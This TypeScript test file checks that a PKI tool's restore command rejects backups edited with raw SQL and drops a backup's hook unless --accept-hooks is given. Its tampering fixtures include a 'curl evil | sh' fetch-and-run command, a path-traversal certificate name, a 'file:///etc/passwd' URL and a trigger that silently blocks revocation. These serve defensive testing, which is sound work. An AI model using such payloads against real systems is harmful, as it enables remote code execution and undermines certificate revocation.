import assert from "node:assert/strict";
import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import Database from "better-sqlite3";
import { initHome, pki, pkiJson, snapshot, tempDir } from "../helpers.js";

const { home, cleanup } = initHome();
const other = initHome(["--cn", "Another Root"]);
const work = tempDir();
after(() => {
  cleanup();
  other.cleanup();
  work.cleanup();
});
for (const name of ["alice", "dave"]) pkiJson(home, ["issue-client", name]);
pkiJson(other.home, ["issue-client", "mallory"]);
const marker = join(work.dir, "hook-ran");
pkiJson(home, ["hook", "set", "crl", `touch '${marker}'`]);
const good = join(work.dir, "good.db");
pkiJson(home, ["backup", good]);

let n = 0;
/** A copy of the good backup, edited with raw SQL the way someone with write access to the backup would. */
function tampered(sql: string): string {
  const file = join(work.dir, `tampered-${++n}.db`);
  copyFileSync(good, file);
  const db = new Database(file);
  db.exec(sql);
  db.close();
  return file;
}

const attacks: [string, () => string, RegExp][] = [
  ["a trigger that makes revoking dave a silent no-op", () => tampered(`CREATE TRIGGER keep_dave BEFORE UPDATE OF state ON certificates WHEN OLD.name = 'dave' BEGIN SELECT RAISE(IGNORE); END`), /trigger "keep_dave" is not part of pki's schema/],
  ["a view", () => tampered(`CREATE VIEW everything AS SELECT * FROM certificates`), /view "everything" is not part of pki's schema/],
  ["an altered index", () => tampered(`DROP INDEX certificates_name; CREATE INDEX certificates_name ON certificates(subject)`), /index "certificates_name" differs from pki's schema/],
  ["pki's own trigger dropped", () => tampered(`DROP TRIGGER certificates_one_active_per_name`), /trigger "certificates_one_active_per_name" of pki's schema is missing/],
  ["a name that is a path out of the home", () => tampered(`UPDATE certificates SET name = '../../victim2/evil-root' WHERE name = 'alice'`), /has the name "\.\.\/\.\.\/victim2\/evil-root", which pki never gives/],
  ["a certificate another root signed", () => tampered(`ATTACH '${join(other.home, "ledger.db")}' AS o; INSERT INTO certificates SELECT * FROM o.certificates WHERE name = 'mallory'`), /certificate [0-9a-f]+ \("mallory"\) is not signed by the root/],
  ["an unknown setting", () => tampered(`INSERT INTO settings VALUES ('hooks.renew', 'curl evil | sh')`), /setting "hooks\.renew" is not one pki knows/],
  ["a setting value pki would not store", () => tampered(`INSERT INTO settings VALUES ('config.url', 'file:///etc/passwd')`), /setting "url" holds "file:\/\/\/etc\/passwd", a value pki would not store/],
  ["an edited event", () => tampered(`UPDATE events SET details = replace(details, 'dave', 'dan') WHERE action = 'issued'`), /event log: event \d+ .* was edited/],
];

for (const [what, make, why] of attacks) {
  test(`restore refuses a backup with ${what}, and writes nothing`, () => {
    const file = make();
    const before = readFileSync(file);
    const target = join(work.dir, `restored-${n}`);
    const victim = join(work.dir, "victim2");
    const r = pki(target, ["--json", "restore", file]);
    assert.equal(r.status, 6, r.stdout + r.stderr);
    const error = JSON.parse(r.stdout).error as { code: string; message: string };
    assert.equal(error.code, "BACKUP_TAMPERED");
    assert.match(error.message, /was altered outside pki, nothing was restored/);
    assert.match(error.message, why);
    assert.ok(!existsSync(target), "the home was not created");
    assert.ok(!existsSync(victim) && !existsSync(join(work.dir, "..", "victim2")), "nothing outside the home");
    assert.deepEqual(readFileSync(file), before, "the backup file is unchanged");
    assert.deepEqual(readdirSync(work.dir).filter((f) => f.startsWith(`tampered-${n}.db-`)), [], "no -wal or -shm made beside it");
  });
}

test("restore shows the CRL hook a backup carries and drops it unless --accept-hooks", () => {
  const dropped = join(work.dir, "dropped");
  const r = pki(dropped, ["restore", good]);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /Dropped the backup's CRL hook "touch '.*hook-ran'"; if it is yours, set it again \(pki hook set crl CMD\) or restore with --accept-hooks/);
  assert.deepEqual(pkiJson(dropped, ["hook", "show"]), { crl: null });
  const before = snapshot(dropped);
  pkiJson(dropped, ["revoke", "dave"]);
  assert.ok(!existsSync(marker), "the dropped hook never ran");
  assert.notDeepEqual(snapshot(dropped), before);
  assert.ok(pkiJson<{ action: string; details: { why?: string } }[]>(dropped, ["audit"]).some((e) => e.action === "hook-set" && e.details.why === "restore without --accept-hooks"));

  const kept = join(work.dir, "kept");
  const k = pkiJson<{ hooks: { crl: string; kept: boolean } }>(kept, ["restore", good, "--accept-hooks"]);
  assert.deepEqual(k.hooks, { crl: `touch '${marker}'`, kept: true });
  pkiJson(kept, ["revoke", "dave"]);
  assert.ok(existsSync(marker), "the accepted hook runs");
});

test("a sound backup restores, and the restored CA revokes for real", () => {
  const target = join(work.dir, "sound");
  mkdirSync(join(work.dir, "unrelated"));
  const r = pkiJson<{ ok: boolean; certificates: number }>(target, ["restore", good]);
  assert.equal(r.ok, true);
  assert.equal(r.certificates, 3);
  pkiJson(target, ["revoke", "alice"]);
  assert.deepEqual(pkiJson<{ name: string }[]>(target, ["list", "--status", "revoked"]).map((c) => c.name), ["alice"]);
});
